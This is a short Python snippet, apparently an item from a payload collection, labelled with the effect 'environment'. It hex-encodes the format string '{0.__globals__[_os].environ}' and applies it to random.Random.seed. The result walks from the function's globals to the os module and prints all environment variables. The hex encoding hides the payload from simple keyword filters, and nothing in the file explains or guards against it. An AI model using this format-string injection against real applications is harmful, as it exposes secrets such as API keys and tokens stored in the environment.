# source: own
# effect: environment

import random

template = bytes.fromhex("7b302e5f5f676c6f62616c735f5f5b5f6f735d2e656e7669726f6e7d").decode()
print(template.format(random.Random.seed))
